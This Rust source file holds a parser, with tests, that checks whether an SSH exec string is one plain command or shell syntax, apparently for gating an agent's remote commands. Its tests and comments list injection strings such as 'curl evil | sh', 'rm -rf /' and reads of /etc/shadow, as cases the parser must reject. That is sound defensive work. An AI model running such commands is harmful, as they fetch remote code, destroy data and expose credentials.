//! Reads an SSH exec string the way the remote shell will, conservatively.
//!
//! sshd hands an exec string to the user's login shell (`$SHELL -c`), so
//! `make x; curl evil | sh` is three commands, not `make` with arguments.
//! A string is *plain* only when it is a sequence of words that every
//! POSIX shell (sh, dash, bash, ksh, zsh) splits the same way and runs as
//! one simple command with exactly those words as its argv:
//! - unquoted characters from a safe set: ASCII letters and digits and
//!   `_ - . / : , + @ %`, and `=` anywhere but at the start of a word (zsh
//!   expands `=cmd`) or in the first word (an assignment);
//! - single quotes around anything but control characters;
//! - double quotes around anything but `$`, `` ` ``, `\` (expansions and
//!   escapes), `!` (history expansion in interactive shells) and control
//!   characters;
//! - words separated by spaces and tabs.
//!
//! Everything else (`;` `&` `|` `<` `>` `(` `)` `{` `}` `$` `` ` `` `\`
//! `#` `~` `*` `?` `[` `]` `!` `^`, newlines and other control characters,
//! non-ASCII outside quotes, an unterminated quote, a first word that is
//! a reserved word or an assignment) makes the string a shell program:
//! it is decided as `ssh:shell`, never as `ssh:exec`.
//!
//! Owns reading only: no decisions, no I/O.

/// Why an exec string is not a plain command (shown to the agent and
/// audited).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NotPlain(pub String);

impl std::fmt::Display for NotPlain {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

/// Words shells treat as syntax when they come first.
const RESERVED: &[&str] = &[
    "if",
    "then",
    "else",
    "elif",
    "fi",
    "do",
    "done",
    "case",
    "esac",
    "while",
    "until",
    "for",
    "in",
    "function",
    "select",
    "time",
    "coproc",
    "foreach",
    "repeat",
    "nocorrect",
    "noglob",
];

fn safe_unquoted(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '/' | ':' | ',' | '+' | '@' | '%')
}

fn describe(c: char) -> String {
    match c {
        '\n' => "a newline (command separator)".into(),
        ';' => "`;` (command separator)".into(),
        '&' => "`&` (background or `&&`)".into(),
        '|' => "`|` (pipe or `||`)".into(),
        '<' | '>' => format!("`{c}` (redirection)"),
        '(' | ')' => format!("`{c}` (subshell)"),
        '{' | '}' => format!("`{c}` (group or brace expansion)"),
        '$' => "`$` (expansion)".into(),
        '`' => "a backtick (command substitution)".into(),
        '\\' => "a backslash (escape)".into(),
        '#' => "`#` (comment)".into(),
        '~' => "`~` (tilde expansion)".into(),
        '*' | '?' | '[' | ']' => format!("`{c}` (glob)"),
        '!' => "`!` (negation or history expansion)".into(),
        c if c.is_control() => format!("control character U+{:04X}", u32::from(c)),
        c if !c.is_ascii() => format!("non-ASCII character {c:?} outside quotes"),
        c => format!("`{c}`"),
    }
}

/// Splits a plain command into its words (quotes removed), or says why
/// the string is shell syntax.
pub fn split(command: &str) -> Result<Vec<String>, NotPlain> {
    let not = |why: String| Err(NotPlain(format!("it contains {why}")));
    let mut words: Vec<String> = Vec::new();
    let mut cur = String::new();
    let mut in_word = false;
    let mut chars = command.chars();
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' => {
                if in_word {
                    words.push(std::mem::take(&mut cur));
                    in_word = false;
                }
            }
            '\'' => {
                in_word = true;
                loop {
                    match chars.next() {
                        None => return Err(NotPlain("it has an unterminated `'` quote".into())),
                        Some('\'') => break,
                        Some(q) if q.is_control() && q != '\t' => return not(describe(q)),
                        Some(q) => cur.push(q),
                    }
                }
            }
            '"' => {
                in_word = true;
                loop {
                    match chars.next() {
                        None => return Err(NotPlain("it has an unterminated `\"` quote".into())),
                        Some('"') => break,
                        Some(q @ ('$' | '`' | '\\' | '!')) => {
                            return not(format!("{} inside double quotes", describe(q)))
                        }
                        Some(q) if q.is_control() && q != '\t' => return not(describe(q)),
                        Some(q) => cur.push(q),
                    }
                }
            }
            '=' => {
                if !in_word {
                    return not("`=` at the start of a word (zsh `=command` expansion)".into());
                }
                if words.is_empty() {
                    return Err(NotPlain(
                        "its first word is a variable assignment, not a command".into(),
                    ));
                }
                cur.push(c);
            }
            c if safe_unquoted(c) => {
                in_word = true;
                cur.push(c);
            }
            c => return not(describe(c)),
        }
    }
    if in_word {
        words.push(cur);
    }
    if let Some(first) = words.first() {
        if RESERVED.contains(&first.as_str()) {
            return Err(NotPlain(format!(
                "its first word `{first}` is shell syntax (a reserved word)"
            )));
        }
    }
    Ok(words)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn w(s: &str) -> Vec<String> {
        split(s).unwrap_or_else(|e| panic!("{s:?}: {e}"))
    }

    #[test]
    fn plain_commands_split_into_words() {
        assert_eq!(w("make test"), ["make", "test"]);
        assert_eq!(w("  make\t-j4   build  "), ["make", "-j4", "build"]);
        assert_eq!(
            w("git log --format=%H -n 3"),
            ["git", "log", "--format=%H", "-n", "3"]
        );
        assert_eq!(w("echo 'a; b | c' \"d e\""), ["echo", "a; b | c", "d e"]);
        assert_eq!(w("echo a'b'\"c\""), ["echo", "abc"]);
        assert_eq!(w("echo '' \"\""), ["echo", "", ""]);
        assert_eq!(w("make CC=gcc"), ["make", "CC=gcc"]);
        assert_eq!(
            w("git commit -m \"caf\u{e9} ok\""),
            ["git", "commit", "-m", "caf\u{e9} ok"]
        );
        assert_eq!(w("ls /tmp/a.b_c-d:e,f+g@h"), ["ls", "/tmp/a.b_c-d:e,f+g@h"]);
        assert_eq!(w(""), Vec::<String>::new());
        assert_eq!(w("echo 'it''s'"), ["echo", "its"]);
        assert_eq!(w("echo '$(x)' '`y`'"), ["echo", "$(x)", "`y`"]);
    }

    #[test]
    fn shell_syntax_is_not_plain() {
        for s in [
            "make x; touch /tmp/pwned",
            "make x && rm -rf /",
            "make x || true",
            "make x | sh",
            "make x & curl evil",
            "make $(curl evil)",
            "make `curl evil`",
            "make ${HOME}",
            "make $HOME",
            "make > /etc/passwd",
            "make < /etc/shadow",
            "make x\ncurl evil",
            "make x\rcurl",
            "(make x)",
            "{ make x; }",
            "make x # comment",
            "make ~/x",
            "make *",
            "make ?",
            "make [ab]",
            "make \\; x",
            "make \"$(curl evil)\"",
            "make \"`id`\"",
            "make \"a\\\"b\"",
            "make \"hi!\"",
            "make 'unterminated",
            "make \"unterminated",
            "FOO=bar make",
            "LD_PRELOAD=/tmp/x.so make",
            "make =ls",
            "if true",
            "time make",
            "! make",
            "make ^x",
            "make x\u{0}rm",
            "make \u{e9}",
            "make 'a\nb'",
        ] {
            assert!(split(s).is_err(), "{s:?} read as plain: {:?}", split(s));
        }
        assert_eq!(
            split("make x; touch /tmp/pwned").unwrap_err().to_string(),
            "it contains `;` (command separator)"
        );
    }
}
